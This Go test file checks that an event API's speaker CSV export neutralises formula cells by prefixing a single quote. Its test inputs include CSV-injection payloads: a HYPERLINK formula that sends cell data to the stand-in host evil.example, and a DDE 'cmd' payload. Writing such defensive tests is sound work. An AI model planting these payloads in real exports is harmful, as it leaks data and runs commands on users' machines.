package rest_test

import (
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestSpeakerCSVNeutralisesFormulas: a spreadsheet opening the speaker directory's CSV runs a cell
// that begins with =, +, -, @, a tab or a carriage return as a formula (OWASP "CSV injection").
// Such cells, whatever a speaker or an integrator typed, are exported with a leading single
// quote; other cells as they are.
func TestSpeakerCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t)
	base := "/api/v1/events/" + str(b.createEvent(b.acme, "CSV"), "id")
	body := speakerBody("mallory@example.test")
	body["firstName"] = `=HYPERLINK("https://evil.example/?"&A1,"Open")`
	body["lastName"] = "+1+1"
	body["title"] = "-2+3"
	body["company"] = "@SUM(1+1)"
	body["bio"] = "\t=cmd|' /C calc'!A0"
	b.must(http.StatusCreated, http.MethodPost, base+"/speakers", b.acme, body)
	body = speakerBody("ada@example.test")
	body["bio"] = "\r=1+1"
	body["title"] = "Engineer - Analytical Engines"
	b.must(http.StatusCreated, http.MethodPost, base+"/speakers", b.acme, body)

	export := b.must(http.StatusOK, http.MethodGet, base+"/speakers", b.acme, nil).Obj()["csv"].(string)
	records, err := csv.NewReader(strings.NewReader(export)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 3)
	cells := map[string]bool{}
	for _, rec := range records[1:] {
		for _, cell := range rec {
			cells[cell] = true
			if cell != "" {
				require.NotContains(t, "=+-@\t\r", cell[:1], "cell %q would run as a formula", cell)
			}
		}
	}
	// encoding/csv writes a lone carriage return of a cell as nothing (UseCRLF), so "\r=1+1" is
	// read back as "'=1+1": neutralised before the writer dropped its first character.
	for _, want := range []string{`'=HYPERLINK("https://evil.example/?"&A1,"Open")`, "'+1+1", "'-2+3", "'@SUM(1+1)",
		"'\t=cmd|' /C calc'!A0", "'=1+1", "Engineer - Analytical Engines", "Ada", "ada@example.test"} {
		require.True(t, cells[want], "the export has no cell %q: %q", want, export)
	}
}
